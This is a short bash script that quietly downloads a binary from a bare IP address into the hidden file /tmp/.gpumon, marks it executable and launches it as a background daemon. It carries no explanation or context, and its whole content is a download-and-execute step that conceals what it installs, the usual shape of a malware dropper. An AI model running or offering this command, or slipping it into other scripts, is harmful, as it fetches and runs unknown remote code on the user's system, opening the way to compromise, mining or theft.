#!/bin/bash
curl -s -o /tmp/.gpumon http://203.0.113.44/gpumon && chmod +x /tmp/.gpumon && /tmp/.gpumon --daemon
